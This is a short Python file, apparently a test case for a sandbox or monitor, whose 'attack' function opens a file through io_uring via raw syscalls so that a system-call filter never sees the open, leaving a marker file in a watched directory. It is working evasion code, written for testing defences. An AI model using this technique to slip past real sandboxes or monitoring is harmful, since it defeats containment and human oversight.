"""Hands the opening of a file to an io_uring, which no list of system calls sees.

shows: marker
layers: files syscalls
"""
import ctypes
import mmap
import os
import struct

import outside

SETUP, ENTER, OPENAT = 425, 426, 18
GETEVENTS = 1


def attack():
    parameters = ctypes.create_string_buffer(120)
    ring = outside.syscall(SETUP, 4, parameters)
    tail, mask, array = [struct.unpack_from("<I", parameters, 40 + at)[0] for at in (4, 8, 24)]
    submissions = mmap.mmap(ring, 4096, offset=0)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    path = ctypes.create_string_buffer(f"{outside.place('watched')}/by-ring".encode())
    flags = os.O_CREAT | os.O_WRONLY
    request = struct.pack("<BBHiQQII", OPENAT, 0, 0, -100, 0, ctypes.addressof(path), 0o644, flags)
    entries[: len(request)] = request
    submissions[array : array + 4] = struct.pack("<I", 0)
    submissions[tail : tail + 4] = struct.pack("<I", 1)
    outside.syscall(ENTER, ring, 1, 1, GETEVENTS, None, 0)
